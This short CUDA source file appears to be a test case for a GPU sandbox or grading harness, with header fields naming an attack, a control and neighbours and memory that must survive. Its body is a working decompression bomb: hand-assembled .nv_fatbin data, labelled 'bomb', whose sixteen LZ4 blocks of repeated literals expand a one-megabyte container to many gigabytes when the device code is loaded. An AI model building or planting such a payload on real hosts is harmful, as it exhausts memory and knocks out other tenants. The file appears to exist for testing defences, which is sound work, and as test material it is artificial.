// SPDX-License-Identifier: MIT
// attacks: a container of device code, made by the assembler, of one megabyte that unpacks to many gigabytes
// control: honest
// earns: at most its control
// must stay: neighbours, memory
#include "controls/honest.cu"

// Sixteen regions of PTX, each an LZ4 block of one literal that is repeated 255,000,019 times.
asm(R"(
.section .nv_fatbin,"a"
.align 8
bomb: .long 0xBA55ED50
.short 1, 16
.quad bomb_end - bomb - 16
.rept 16
.short 1, 0
.long 64
.quad 1000016
.long 1000011
.zero 8
.long 75
.zero 8
.quad 0x2000
.zero 8
.quad 255000025
.byte 0x1f, 0x20, 1, 0
.fill 1000000, 1, 0xff
.byte 0, 0x50, 32, 32, 32, 32, 32
.zero 5
.endr
bomb_end:
.text
)");
